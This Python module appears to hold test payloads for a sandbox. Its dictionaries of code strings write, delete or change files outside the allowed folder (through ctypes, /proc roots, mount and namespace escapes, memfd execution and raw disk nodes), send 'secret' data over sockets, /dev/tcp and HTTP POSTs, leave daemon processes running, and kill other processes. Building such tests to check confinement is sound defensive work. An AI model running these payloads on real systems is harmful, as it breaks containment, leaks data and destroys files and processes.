"""Scripts that get past guards in Python: to the user's files, to the network, out of the process group.

Each is run in a folder `work`, beside a folder `outside` with a file `kept`; `TCP` and `UDP` are ports of this machine that
listen, `HUB` is the Hub's address, and `MARK` is a word by which processes are found.
"""

from typing import Final

OUTSIDE: Final = {
    "ctypes creates": "ctypes.CDLL(None).creat(f'{OUTSIDE}/new'.encode(), 0o644)",
    "ctypes deletes": "ctypes.CDLL(None).unlink(f'{OUTSIDE}/kept'.encode())",
    "ctypes renames": "ctypes.CDLL(None).rename(f'{OUTSIDE}/kept'.encode(), f'{OUTSIDE}/other'.encode())",
    "ctypes truncates": "ctypes.CDLL(None).truncate(f'{OUTSIDE}/kept'.encode(), 0)",
    "ctypes changes rights": "ctypes.CDLL(None).chmod(f'{OUTSIDE}/kept'.encode(), 0o777)",
    "ctypes links": "ctypes.CDLL(None).link(f'{OUTSIDE}/kept'.encode(), f'{OUTSIDE}/link'.encode())",
    "mknod": "os.mknod(f'{OUTSIDE}/new')",
    "setxattr": "os.setxattr(f'{OUTSIDE}/kept', 'user.a', b'b')",
    "the root of /proc": "open(f'/proc/self/root{OUTSIDE}/new', 'w').write('x')",
    "the root of another process": "open(f'/proc/1/root{OUTSIDE}/new', 'w').write('x')",
    "the working folder of another process": "open(f'/proc/1/cwd/new', 'w').write('x')",
    "a folder's descriptor": "os.open('new', os.O_CREAT | os.O_WRONLY, dir_fd=os.open(OUTSIDE, os.O_RDONLY))",
    "posix_spawn": "os.waitpid(os.posix_spawn('/bin/sh', ['sh', '-c', f'echo x > {OUTSIDE}/new'], os.environ), 0)",
    "python -I": "subprocess.run([sys.executable, '-I', '-c', f'open({OUTSIDE!r} + \"/new\", \"w\").write(\"x\")'])",
    "python without variables": "subprocess.run([sys.executable, '-c', f'open({OUTSIDE!r} + \"/new\", \"w\")'], env={})",
    "perl": "subprocess.run(['perl', '-e', f'open(F, \">{OUTSIDE}/new\")'])",
    "awk": "subprocess.run(['awk', f'BEGIN {{ print 1 > \"{OUTSIDE}/new\" }}'])",
    "sort -o": "subprocess.run(['sort', '-o', f'{OUTSIDE}/kept', '/dev/null'])",
    "find -delete": "subprocess.run(['find', OUTSIDE, '-type', 'f', '-delete'])",
    "the folder that it is started in": "subprocess.run(['sort', '-o', 'script.py', '/dev/null'])",
    "a program in memory": (
        "fd = os.memfd_create('program'); os.write(fd, open(shutil.which('touch'), 'rb').read())\n"
        "os.waitpid(os.posix_spawn(f'/proc/self/fd/{fd}', ['touch', f'{OUTSIDE}/new'], os.environ), 0)"
    ),
    "mount": "subprocess.run(['mount', '-o', 'remount,rw', '/'])\nctypes.CDLL(None).creat(f'{OUTSIDE}/new'.encode(), 0o644)",
    "a namespace of its own": (
        "ctypes.CDLL(None).unshare(0x10000000 | 0x20000)\n"
        "ctypes.CDLL(None).umount2(OUTSIDE.encode(), 2)\n"
        "ctypes.CDLL(None).creat(f'{OUTSIDE}/new'.encode(), 0o644)"
    ),
    "namespaces of processes outside": (
        "[ctypes.CDLL(None).setns(os.open(f'/proc/{pid}/ns/mnt', os.O_RDONLY), 0) for pid in (1, os.getppid())]\n"
        "ctypes.CDLL(None).creat(f'{OUTSIDE}/new'.encode(), 0o644)"
    ),
    "a disk": (
        "device = os.stat(OUTSIDE).st_dev\n"
        "os.mknod('disk', 0o60600, device)\n"
        "open('disk', 'rb').read(1) and ctypes.CDLL(None).creat(f'{OUTSIDE}/new'.encode(), 0o644)"
    ),
}
"""Ways to change what lies outside of the rehearsal's folder."""
OUTSIDE_OF_LIBRARIES: Final = {
    "pyarrow": "import pyarrow.fs\npyarrow.fs.LocalFileSystem().open_output_stream(f'{OUTSIDE}/new').write(b'x')",
    "pyarrow deletes": "import pyarrow.fs\npyarrow.fs.LocalFileSystem().delete_dir(OUTSIDE)",
    "torch.jit.save": "import torch\ntorch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), f'{OUTSIDE}/new')",
    "torch.from_file": "import torch\ntorch.from_file(f'{OUTSIDE}/kept', shared=True, size=1, dtype=torch.uint8).fill_(0)",
}
"""The same, by libraries that open files themselves."""
SENDING: Final = {
    "UDP": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', UDP))",
    "_socket": "import _socket\ns = _socket.socket(2, 1); s.connect(('127.0.0.1', TCP)); s.send(b'secret')",
    "the C library": (
        "c = ctypes.CDLL(None); s = c.socket(2, 1, 0)\n"
        "c.connect(s, struct.pack('=HH4s8x', 2, socket.htons(TCP), bytes([127, 0, 0, 1])), 16)\n"
        "c.send(s, b'secret', 6, 0)"
    ),
    "bash": "subprocess.run(['env', 'bash', '-c', f'exec 3<>/dev/tcp/127.0.0.1/{TCP}; echo secret >&3'])",
    "bash by posix_spawn": (
        "os.waitpid(os.posix_spawn('/bin/bash', ['bash', '-c', f'echo secret > /dev/tcp/127.0.0.1/{TCP}'], {}), 0)"
    ),
    "python -I": (
        'program = f\'import socket; socket.create_connection(("127.0.0.1", {TCP})).send(b"secret")\'\n'
        "subprocess.run([sys.executable, '-I', '-c', program])"
    ),
    "a POST to the Hub by urllib": "urllib.request.urlopen(urllib.request.Request(f'{HUB}/api/a', data=b'secret'))",
    "a POST to the Hub by http.client": (
        "c = http.client.HTTPConnection(HUB.split('/')[2]); c.request('POST', '/api/secret', b'secret'); c.getresponse()"
    ),
    "a second request to the Hub": (
        "s = socket.create_connection(HUB.split('/')[2].split(':'))\n"
        "s.sendall(b'GET /a HTTP/1.1\\r\\nHost: a\\r\\n\\r\\nPOST /secret HTTP/1.1\\r\\nContent-Length: 6\\r\\n\\r\\nsecret')\n"
        "s.recv(1000)\ns.recv(1000)"
    ),
    "a socket in a folder": "s = socket.socket(socket.AF_UNIX); s.connect(f'{OUTSIDE}.socket'); s.send(b'secret')",
    "an abstract socket": "s = socket.socket(socket.AF_UNIX); s.connect(f'\\0{MARK}'); s.send(b'secret')",
}
"""Ways to send data to the machine outside."""
STAYING: Final = {
    "setsid": "if not os.fork():\n    ctypes.CDLL(None).setsid(); os.posix_spawn(SLEEP, WORDS, {}); os._exit(0)",
    "a daemon": (
        "if not os.fork():\n    ctypes.CDLL(None).setsid()\n    if os.fork(): os._exit(0)\n"
        "    signal.signal(signal.SIGTERM, signal.SIG_IGN); os.posix_spawn(SLEEP, WORDS, {}); os._exit(0)"
    ),
    "posix_spawn": "os.posix_spawn(SLEEP, WORDS, {}, setsid=True)",
    "nohup": "subprocess.Popen(['nohup', *WORDS], start_new_session=True, env={})",
}
"""Ways to leave a process behind."""
HARMING: Final = {
    "by its id": "os.kill(VICTIM, signal.SIGKILL)",
    "by a program": "subprocess.run(['python3', '-I', '-c', f'import os; os.kill({VICTIM}, 9)'])",
    "by tracing": "ctypes.CDLL(None).ptrace(0x4206, VICTIM, 0, 0x100000) or os._exit(1)  # it dies with its tracer",
}
"""Ways to end a process that is not its own; `VICTIM` is its id."""
